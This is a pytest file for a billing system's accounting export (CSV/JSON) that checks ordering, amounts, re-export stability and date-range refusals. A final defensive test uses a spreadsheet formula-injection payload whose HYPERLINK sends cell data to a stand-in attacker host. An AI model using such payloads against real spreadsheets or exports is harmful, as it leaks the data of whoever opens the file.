"""The accounting export: ``invoices.export`` and ``billctl invoices export`` against a running core.

Documents are inserted per schema/0020 (the invoices helper's issuing code is another branch), a credit note
with its charge_reversal ledger row posted by the ledger; payments and their cancellations go through
``billcore.billing.payments``.  What an accountant would notice: every document of the period once, in a
fixed order, a cancelled payment as the payment and a cancellation row; amounts as decimals (more when the
micro-units need them) beside the raw micro-units; exporting again gives the same bytes, also after a
later cancellation; every column is in docs/documents.md; a wrong range is refused in words.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import asyncpg
import pytest

from billcore.api import invoice_export
from billcore.billing.ledger import Entry, post_charges
from billcore.billing.payments import add_payment, cancel_payment
from billcore.clients.billctl_export import CSV_COLUMNS
from billcore.common.config import Config
from billcore.server.context import CoreContext
from tests.running import BillcoreProcess
from tests.test_ops_cli import ADMIN_PW, run_billcore, run_billctl
from tests.test_tariffs_api import Ctx
from tests.test_usage_commit import make_accounts
from urfa.errors import CallFailed

UTC = timezone.utc
NOV, DEC = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 12, 1, tzinfo=UTC)
DOC = Path(__file__).resolve().parent.parent / "docs" / "documents.md"
NAME = 'Иванов, Иван "Ваня"'          # Cyrillic, a comma and quotes: CSV must quote it


async def invoice(conn: asyncpg.Connection, account: int, *, kind: str = "invoice", series: str = "INV",
                  issued_at: datetime, total: int, vat_bp: int = 2000, credits: int | None = None,
                  reason: str = "", start: datetime = datetime(2026, 10, 1, tzinfo=UTC), end: datetime = NOV) -> int:
    """A document row as the invoices helper writes it: the next number of its series and year, in one
    transaction with a credit note's ledger row."""
    async with conn.transaction():
        return await _document(conn, account, kind, series, issued_at, total, vat_bp, credits, reason, start, end)


async def _document(conn: asyncpg.Connection, account: int, kind: str, series: str, issued_at: datetime, total: int,
                    vat_bp: int, credits: int | None, reason: str, start: datetime, end: datetime) -> int:
    await conn.execute("INSERT INTO invoice_series(series, year) VALUES ($1, $2) ON CONFLICT DO NOTHING",
                       series, issued_at.year)
    number = await conn.fetchval("UPDATE invoice_series SET last_no = last_no + 1 WHERE series = $1 AND year = $2"
                                 " RETURNING last_no", series, issued_at.year)
    vat = (abs(total) * vat_bp * 2 + (10_000 + vat_bp)) // (2 * (10_000 + vat_bp)) * (1 if total > 0 else -1)
    ledger_id = None
    if kind == "credit_note":
        posted = await post_charges(conn, [Entry(account, -total, "charge_reversal", f"credit_note:{series}{number}",
                                                 reference=f"credit note {series}-{number}")],
                                    actor="accountant", now=issued_at)
        ledger_id = posted.posted[0].ledger_id
    return int(await conn.fetchval(
        "INSERT INTO invoices(kind, series, year, number, account_id, period_start, period_end, credits, ledger_id,"
        " issued_at, issued_by, vat_bp, net, vat, total, reason, customer)"
        " VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, 'periodic', $11, $12, $13, $14, $15, $16::jsonb)"
        " RETURNING id", kind, series, issued_at.year, number, account, start, end, credits, ledger_id, issued_at,
        vat_bp, total - vat, vat, total, reason,
        json.dumps({"login": f"user{account}", "full_name": NAME if account % 2 else "Anna Smith"})))


async def seed(conn: asyncpg.Connection) -> dict[str, Any]:
    a1, a2 = await make_accounts(conn, 2)
    at = NOV + timedelta(hours=3)
    inv1 = await invoice(conn, a1, issued_at=at, total=10_000_000)
    inv2 = await invoice(conn, a2, issued_at=at, total=1_000_001)            # issued at the same instant
    await invoice(conn, a1, issued_at=NOV - timedelta(days=20), total=5_000_000,   # issued in October: not exported
                  start=datetime(2026, 9, 1, tzinfo=UTC), end=datetime(2026, 10, 1, tzinfo=UTC))
    cn = await invoice(conn, a1, kind="credit_note", series="CN", issued_at=NOV + timedelta(days=14),
                       total=-2_500_000, credits=inv1, reason="two days without service")
    cash = await add_payment(conn, account_id=a1, amount=12_500_000, method="cash", actor="anna",
                             now=NOV + timedelta(days=4), comment="at the office")
    card = await add_payment(conn, account_id=a2, amount=7_250_000, method="card", actor="anna",
                             external_id="bank-42", now=NOV + timedelta(days=9))
    await cancel_payment(conn, card.payment_id, actor="boris", reason="wrong account", now=NOV + timedelta(days=19))
    odd = await add_payment(conn, account_id=a2, amount=1_000_001, method="bank", actor="boris",
                            now=NOV + timedelta(days=24))
    await add_payment(conn, account_id=a1, amount=3_000_000, method="cash", actor="anna", now=DEC + timedelta(days=1))
    return {"a1": a1, "a2": a2, "inv1": inv1, "inv2": inv2, "cn": cn, "cash": cash.payment_id,
            "card": card.payment_id, "odd": odd.payment_id}


async def test_the_call_streams_every_record_once_in_order(pool: asyncpg.Pool) -> None:
    async with pool.acquire() as conn:
        s = await seed(conn)
    (spec,) = invoice_export.calls(CoreContext(pool, Config()))
    assert spec.right == "invoices.read" and spec.streaming and list(spec.fields) == list(invoice_export.COLUMNS)
    ctx = Ctx("admin", 1)
    result = await spec.handler(ctx, since=NOV, until=DEC)
    rows = [dict(zip(invoice_export.COLUMNS, row)) for chunk in ctx.chunks for row in chunk]
    assert [(r["record"], r["id"]) for r in rows] == [
        ("invoice", s["inv1"]), ("invoice", s["inv2"]), ("payment", s["cash"]), ("payment", s["card"]),
        ("credit_note", s["cn"]), ("payment_cancellation", s["card"]), ("payment", s["odd"])]
    first, credit, cancelled = rows[0], rows[4], rows[5]
    assert first["number"] == "INV-2026-000001" and first["total"] == 10_000_000
    assert first["net"] + first["vat"] == first["total"] and first["vat"] == 1_666_667
    assert credit["number"] == "CN-2026-000001" and credit["refers_to"] == "INV-2026-000001"
    assert credit["total"] == -2_500_000 and credit["text"] == "two days without service"
    assert cancelled["total"] == -7_250_000 and cancelled["refers_to"] == str(s["card"])
    assert cancelled["number"] == "bank-42" and cancelled["operator"] == "boris" and cancelled["text"] == "wrong account"
    assert rows[3]["total"] == 7_250_000 and rows[3]["method"] == "card"
    assert result["rows"] == 7 and (result["invoices"], result["credit_notes"], result["payments"],
                                    result["cancellations"]) == (2, 1, 3, 1)
    assert (result["invoiced"], result["credited"], result["paid"], result["cancelled"]) == (
        11_000_001, -2_500_000, 12_500_000 + 7_250_000 + 1_000_001, -7_250_000)
    assert result["currency"] == "RUB" and result["minor_units"] == 2

    for since, until, words in ((DEC, NOV, "before"), (NOV, NOV, "before"),
                                (NOV, NOV + timedelta(days=4000), "at most")):
        with pytest.raises(CallFailed) as failed:
            await spec.handler(Ctx("admin", 1), since=since, until=until)
        assert failed.value.code == "export.invalid" and words in str(failed.value)


@pytest.fixture
def running(tmp_path: Path, db_dsn: str) -> Iterator[tuple[BillcoreProcess, dict[str, Any]]]:
    async def seeded() -> dict[str, Any]:
        conn = await asyncpg.connect(db_dsn)
        try:
            return await seed(conn)
        finally:
            await conn.close()

    s = asyncio.run(seeded())
    with BillcoreProcess(tmp_path, dsn=db_dsn, periodic={"enabled": False}) as bc:
        bc.child_pid("core")
        made = run_billcore(bc, "admin", "create", "root", "--password-env", "PW", env={"PW": ADMIN_PW})
        assert made.returncode == 0, made.stderr
        yield bc, s


def export(bc: BillcoreProcess, out: Path, fmt: str, since: str = "2026-11-01", until: str = "2026-12-01") -> bytes:
    done = run_billctl(bc, "invoices", "export", "--since", since, "--until", until, "--format", fmt,
                       "--out", str(out))
    assert done.returncode == 0, done.stderr
    return out.read_bytes()


def test_billctl_export_csv_and_json_same_bytes_again(running: tuple[BillcoreProcess, dict[str, Any]],
                                                      tmp_path: Path, db_dsn: str) -> None:
    bc, s = running
    first = export(bc, tmp_path / "nov.csv", "csv")
    text = first.decode("utf-8")
    assert not first.startswith(b"\xef\xbb\xbf") and text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [(r["record"], int(r["id"])) for r in rows] == [
        ("invoice", s["inv1"]), ("invoice", s["inv2"]), ("payment", s["cash"]), ("payment", s["card"]),
        ("credit_note", s["cn"]), ("payment_cancellation", s["card"]), ("payment", s["odd"])]
    inv1, inv2 = rows[0], rows[1]
    assert (inv1["total"], inv1["total_micro"], inv1["vat"], inv1["net"]) == ("10.00", "10000000", "1.666667", "8.333333")
    assert inv1["customer_name"] == NAME and f'"{NAME.replace(chr(34), chr(34) * 2)}"' in text   # quoted, quotes doubled
    assert (inv2["total"], inv2["total_micro"]) == ("1.000001", "1000001")          # exact: more decimals
    assert inv1["at"] == "2026-11-01T03:00:00+00:00" and inv1["period_start"] == "2026-10-01T00:00:00+00:00"
    cancelled = rows[5]
    assert (cancelled["total"], cancelled["refers_to"], cancelled["currency"]) == ("-7.25", str(s["card"]), "RUB")
    assert rows[2]["net"] == rows[2]["vat"] == "" and rows[2]["text"] == "at the office"

    as_json = export(bc, tmp_path / "nov.json", "json")
    doc = json.loads(as_json)
    assert list(doc) == sorted(doc) and doc["columns"] == list(CSV_COLUMNS) and doc["minor_units"] == 2
    assert [(r["record"], r["id"]) for r in doc["rows"]] == [(r["record"], int(r["id"])) for r in rows]
    assert all(list(r) == sorted(r) for r in doc["rows"])
    assert doc["rows"][1]["total"] == "1.000001" and doc["rows"][1]["total_micro"] == 1_000_001
    assert doc["totals"]["rows"] == 7 and doc["since"] == "2026-11-01T00:00:00+00:00"

    # a later event (a November payment cancelled in December) leaves November's export as it was
    async def cancel_later() -> None:
        conn = await asyncpg.connect(db_dsn)
        try:
            await cancel_payment(conn, s["odd"], actor="boris", reason="bounced", now=DEC + timedelta(days=2))
        finally:
            await conn.close()
    asyncio.run(cancel_later())
    assert export(bc, tmp_path / "again.csv", "csv") == first
    assert export(bc, tmp_path / "again.json", "json") == as_json
    december = list(csv.DictReader(io.StringIO(export(bc, tmp_path / "dec.csv", "csv", "2026-12-01",
                                                       "2027-01-01").decode(), newline="")))
    assert [(r["record"], r["total"]) for r in december] == [("payment", "3.00"), ("payment_cancellation", "-1.000001")]


def test_billctl_export_refusals(running: tuple[BillcoreProcess, dict[str, Any]], tmp_path: Path) -> None:
    bc, _ = running
    out = tmp_path / "x.csv"
    reversed_range = run_billctl(bc, "invoices", "export", "--since", "2026-12-01", "--until", "2026-11-01",
                                 "--out", str(out))
    assert reversed_range.returncode != 0 and "since must be before until" in reversed_range.stderr
    assert not out.exists()
    bad_date = run_billctl(bc, "invoices", "export", "--since", "1.11.2026", "--until", "2026-12-01", "--out", str(out))
    assert bad_date.returncode != 0 and "ISO 8601" in bad_date.stderr


def test_every_column_is_documented() -> None:
    """docs/documents.md (Accounting export) has a table row for each CSV column, in the file's order."""
    section = DOC.read_text(encoding="utf-8").split("\n## Accounting export\n", 1)[1].split("\n## ", 1)[0]
    documented = re.findall(r"^\| `([a-z_]+)` \|", section, re.M)
    assert documented == list(CSV_COLUMNS)


def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text() -> None:
    """A payer's purpose text or a subscriber's name that starts like a formula gets a leading apostrophe in
    the CSV (CSV injection); amounts, negative ones included, and the JSON export keep their values."""
    from billcore.clients.billctl_export import MONEY, csv_line, json_row
    row: dict[str, Any] = {column: None for column in CSV_COLUMNS if not column.endswith("_micro")}
    row.update({key: -10_500_000 for key in MONEY})
    row.update({"record": "payment", "customer_name": '=HYPERLINK("http://evil.example/?"&A1,"pay")',
                "text": "@SUM(1+1)", "operator": "-2+3", "customer_login": "+79990001122"})
    cells = dict(zip(CSV_COLUMNS, csv_line(row, "RUB", 2)))
    assert cells["customer_name"] == "'" + row["customer_name"]
    assert cells["text"] == "'@SUM(1+1)" and cells["operator"] == "'-2+3"
    assert cells["customer_login"] == "+79990001122"            # a number (a phone-like login) stays itself
    assert all(cells[key] == "-10.50" for key in MONEY) and all(cells[f"{key}_micro"] == "-10500000" for key in MONEY)
    assert json_row(row, "RUB", 2)["customer_name"] == row["customer_name"]
